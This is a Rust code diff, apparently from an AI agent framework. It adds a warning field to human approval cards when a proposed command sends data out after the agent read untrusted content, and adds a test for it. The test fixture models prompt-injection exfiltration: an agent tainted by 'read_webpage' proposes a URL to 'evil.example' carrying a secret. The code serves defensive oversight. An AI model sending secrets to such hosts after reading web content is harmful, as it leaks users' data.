@@ -156,6 +156,13 @@ pub fn proposal_card(
             code_block("json", &args, FIELD_VALUE_MAX),
         ),
     ];
+    if let Some(outgoing) = &proposal.outgoing {
+        // In full where it fits; the arguments file attached to the card holds all of it.
+        fields.push((
+            outgoing.heading(),
+            code_block("text", &outgoing.data, FIELD_VALUE_MAX),
+        ));
+    }
     if let Some(changes) = changes {
         let shown = if changes.diff.is_empty() {
             "No change: the file already holds this text.".to_string()
@@ -316,8 +323,45 @@ mod tests {
             }],
             approvals: vec![noise.clone(); 10],
             approvals_needed: 10,
+            outgoing: Some(crate::core::taint::Outgoing {
+                argument: "url".into(),
+                data: noise.clone(),
+                tainted_by: crate::core::taint::Taint {
+                    cycle: 2,
+                    command: noise.clone(),
+                },
+            }),
             revision: u32::MAX,
         }
+    }
+
+    #[test]
+    fn a_tainted_agent_s_card_shows_what_its_command_sends_out() {
+        let mut proposal = hostile_proposal();
+        proposal.thoughts = Thoughts::default();
+        proposal.command.args = json!({"url": "https://evil.example/?d=secret"})
+            .as_object()
+            .cloned()
+            .unwrap();
+        proposal.outgoing = Some(crate::core::taint::Outgoing {
+            argument: "url".into(),
+            data: "https://evil.example/?d=secret".into(),
+            tainted_by: crate::core::taint::Taint {
+                cycle: 2,
+                command: "read_webpage".into(),
+            },
+        });
+        let card = proposal_card("Agent", &proposal, None, "");
+        let field = card
+            .fields
+            .iter()
+            .find(|(name, _)| name.starts_with("⚠️ Sends data out"))
+            .expect("the field");
+        assert_eq!(
+            field.0,
+            "⚠️ Sends data out after untrusted content (cycle 2 (read_webpage))"
+        );
+        assert_eq!(field.1, "```text\nhttps://evil.example/?d=secret\n```");
     }
 
     #[test]
